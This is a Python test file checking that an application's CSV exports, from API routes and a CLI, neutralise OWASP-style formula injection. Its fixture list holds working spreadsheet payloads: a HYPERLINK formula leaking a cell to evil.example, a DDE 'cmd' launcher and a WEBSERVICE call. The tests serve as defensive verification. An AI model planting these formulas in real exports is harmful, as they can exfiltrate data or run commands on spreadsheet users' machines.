"""Every CSV export opens safely in a spreadsheet (OWASP CSV injection): a text cell beginning with `=`,
`+`, `-`, `@`, tab or CR is written with a leading single quote and quoted, so Excel/WPS/LibreOffice show
it as text. Each export is read through its real route or CLI and parsed back with the csv module."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import sqlalchemy as sa
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from central import csvsafe
from central.dialer import service as dialer
from central.hub import Hub
from central.registry.cli import app as registry_cli
from central.registry.service import FEED_CSV_COLUMNS
from central.settings import Settings
from tests.codes.conftest import City
from tests.helpers import auth, token_for

FORMULAS = ['=HYPERLINK("http://evil.example/x?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _quoted_in_file(text: str, value: str) -> bool:
    """The neutralised cell is written quoted (not only readable back)."""
    return '"' + ("'" + value).replace('"', '""') + '"' in text


def test_rule_itself() -> None:
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([*FORMULAS, "plain", "a,b", -5, 2.5, None, "'kept"])
    (row,) = _rows(buf.getvalue())
    assert row == ["'" + f for f in FORMULAS] + ["plain", "a,b", "-5", "2.5", "", "'kept"]
    assert all(_quoted_in_file(buf.getvalue(), f) for f in FORMULAS)
    assert csvsafe.cell("=1") == "'=1" and csvsafe.cell(-1) == -1  # for XLSX cells: numbers stay numbers


def test_codes_supervision_csv(hub: Hub, client: TestClient) -> None:
    city = City(hub, client)
    city.department()
    kinds = ["clinic.a", "clinic.b", "clinic.c", "clinic.d"]
    city.duties([("HEALTH", k) for k in kinds])
    for i, (kind, name) in enumerate(zip(kinds, FORMULAS[:4], strict=True)):
        app = city.apply(scene_type=kind, scene_name=name, purpose=f"entry to clinics {i}")
        city.ok(city.approve(app["id"], code_system=f"H{i}"))
    text = client.get("/api/v1/codes/supervision.csv", headers=city.admin).text
    rows = _rows(text)
    col = rows[0].index("scene")
    scenes = [r[col] for r in rows[1:]]
    assert sorted(scenes) == sorted("'" + f for f in FORMULAS[:4]), text
    assert all(_quoted_in_file(text, f) for f in FORMULAS[:4])
    assert rows[1][rows[0].index("issued")] == "0"  # numbers stay numbers


def test_dialer_task_export_csv(hub: Hub, client: TestClient) -> None:
    admin = auth(token_for(hub, "ann", role="district_admin", org="/city/district-a"))
    r = client.post("/api/v1/dialer/tasks", headers=admin,
                    json={"name": "t", "org": "/city/district-a", "template_key": "satisfaction"})
    assert r.status_code == 201, r.text
    tid = r.json()["id"]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["name", "phone"])
    w.writerows([[name, f"1380013800{i}"] for i, name in enumerate(FORMULAS[:5])])
    r = client.post(f"/api/v1/dialer/tasks/{tid}/contacts", headers=admin,
                    files={"file": ("list.csv", buf.getvalue().encode(), "text/csv")})
    assert r.status_code == 200 and r.json()["imported"] == 5, r.text
    # a spoken answer (the callee's words, from ASR) lands as the engine records it
    with hub.store.read() as db:
        cid = db.scalar(sa.text("SELECT id FROM dialer_contacts WHERE task_id = :t ORDER BY row_no LIMIT 1"),
                        {"t": tid})
    question = dialer.get_template(hub, "satisfaction")[0].questions()[0]  # a column of the export
    now = datetime.now(UTC)
    dialer.finish_attempt(hub, cid, {"started_at": dialer.iso(now), "outcome": "completed",
                                     "answers": {question: {"value": "=WEBSERVICE(\"http://x\")"}}}, now)
    text = client.get(f"/api/v1/dialer/tasks/{tid}/export.csv", headers=admin).text
    rows = _rows(text)
    header, body = rows[0], rows[1:]
    names = [r[header.index("name")] for r in body]
    assert names == ["'" + f.strip() for f in FORMULAS[:5]], names  # the import strips cells
    assert body[0][header.index(question)] == "'=WEBSERVICE(\"http://x\")"
    assert all(_quoted_in_file(text, f.strip()) for f in FORMULAS[:5])
    assert body[0][header.index("attempts")].isdigit()  # numbers stay numbers


def test_registry_feed_csv_from_the_cli(tmp_path: Path, settings: Settings, hub: Hub, client: TestClient) -> None:
    h = auth(token_for(hub, "reg", role="city_admin", org="/city"))
    for name in FORMULAS:
        r = client.post("/api/v1/registry/entities", headers=h,
                        json={"type": "place", "region": "330106", "name": name,
                              "address": "=1+1", "org": "/city"})
        assert r.status_code == 201, r.text
    cfg = tmp_path / "hub.json"
    cfg.write_text(settings.model_dump_json())
    out = tmp_path / "feed.csv"
    res = CliRunner().invoke(registry_cli, ["export-feed", "--format", "csv", "--out", str(out), "--config", str(cfg)])
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8")
    rows = _rows(text)
    header, body = rows[0], rows[1:]
    assert header == list(FEED_CSV_COLUMNS)
    names = [r[header.index("name")] for r in body if r[header.index("kind")] == "entity.create"]
    stored = [n[1:] for n in names]
    assert len(names) == len(FORMULAS) and all(n.startswith("'") for n in names), names
    assert all(r[header.index("address")] == "'=1+1" for r in body if r[header.index("kind")] == "entity.create")
    assert all(json.loads(r[header.index("data")])["name"] in stored for r in body)  # data: JSON, verbatim
    # the JSONL feed (for machines) keeps every value verbatim
    res = CliRunner().invoke(registry_cli, ["export-feed", "--config", str(cfg)])
    assert {json.loads(line)["data"]["name"] for line in res.stdout.splitlines()} == set(stored)
